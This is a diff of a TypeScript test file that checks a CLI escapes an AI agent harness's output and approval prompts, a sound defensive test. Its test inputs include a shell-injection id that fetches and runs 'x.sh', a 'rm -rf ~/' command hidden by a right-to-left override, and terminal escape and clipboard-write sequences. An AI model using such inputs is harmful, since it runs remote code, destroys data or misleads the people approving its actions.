@@ -22,7 +22,7 @@ import {
 import { approvalsList, jobsArtifacts } from "../src/cli/commands.js";
 import type { Connection } from "../src/cli/connection.js";
 import { describeJob, EventPrinter } from "../src/cli/event-printer.js";
-import { terminalLine, terminalText } from "../src/cli/terminal-text.js";
+import { fieldText, shellWord, terminalLine, terminalText } from "../src/cli/terminal-text.js";
 import { transcriptRows } from "../src/cli/transcript-rows.js";
 
 /** Everything a terminal acts on but a line feed and a tab. */
@@ -94,8 +94,8 @@ void test("a job's live output prints the harness's and the model's text inert, 
   // The CRLF the model ended its line with stays (a carriage return alone would not).
   assert.doesNotMatch(text.replaceAll("\r\n", "\n"), ACTIVE, JSON.stringify(text));
   assert.ok(text.startsWith(`line one\n\tindented ${SHOWN} more\r\n`), text);
-  // Every place a harness's text was printed shows it escaped (a title is put on one line first).
-  assert.equal(text.split(SHOWN).length - 1, 11, text);
+  // Every place a harness's text was printed shows it escaped (a title and a pending call's tool are put on one line, their spaces squeezed).
+  assert.equal(text.split(SHOWN).length - 1, 10, text);
   assert.ok(text.includes(String.raw`: Run ok\u001b[2J\u001b]52;c;ZXZpbA==\u0007 DONE \u202egnp.exe \u009b31m`), text);
 });
 
@@ -166,7 +166,7 @@ void test("oz0 approvals list shows every call's input, whatever its title says,
   assert.doesNotMatch(text.slice(0, -1), /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
   assert.ok(
     text.startsWith(
-      String.raw`job-1  call-1  run_command  Run the tests\u000a${SHOWN}  {"command":"rm -rf ~/ \u202e#safe"}`,
+      String.raw`job-1  call-1  run_command  Run the tests ok\u001b[2J\u001b]52;c;ZXZpbA==\u0007 DONE \u202egnp.exe \u009b31m  {"command":"rm -rf ~/ \u202e#safe"}`,
     ),
     text,
   );
@@ -212,4 +212,31 @@ void test("a field meant for one line cannot forge a line: a tool name, an id, a
     listed,
     `${String.raw`/jobs/job-1/artifacts/notes\u000aBash\u000a? read_file waits for approval (call p9): oz0 approve job-1 p9\u001b[2J.md`}\n`,
   );
+});
+
+void test("an id in a command a person copies is one shell word; a field padded to wrap is cut and its spaces squeezed", () => {
+  const text = printed([
+    {
+      event: { case: "permissionDecision", value: { id: "p1;curl${IFS}-s${IFS}x.sh|sh", tool: "Bash", pending: true } },
+    },
+    { event: { case: "permissionDecision", value: { id: "p1 --input='{}'", tool: "Bash", pending: true } } },
+    {
+      event: {
+        case: "permissionDecision",
+        value: { id: "perm-2", tool: `read_file${" ".repeat(300)}? Bash waits for approval`, pending: true },
+      },
+    },
+  ]);
+  const [first, second, third] = text.split("\n");
+  assert.ok(first!.includes(`oz0 approve job-1 'p1;curl\${IFS}-s\${IFS}x.sh|sh'   or`), first);
+  assert.ok(second!.includes(`oz0 deny job-1 'p1 --input='\\''{}'\\''' --reason TEXT`), second);
+  // A plain id is printed as it is.
+  assert.ok(
+    third!.startsWith(
+      "? read_file ? Bash waits for approval waits for approval (call perm-2): oz0 approve job-1 perm-2 ",
+    ),
+    third,
+  );
+  assert.equal(shellWord("toolu_01AbC-9.x"), "toolu_01AbC-9.x");
+  assert.equal(fieldText("x".repeat(200)).length, 120);
 });
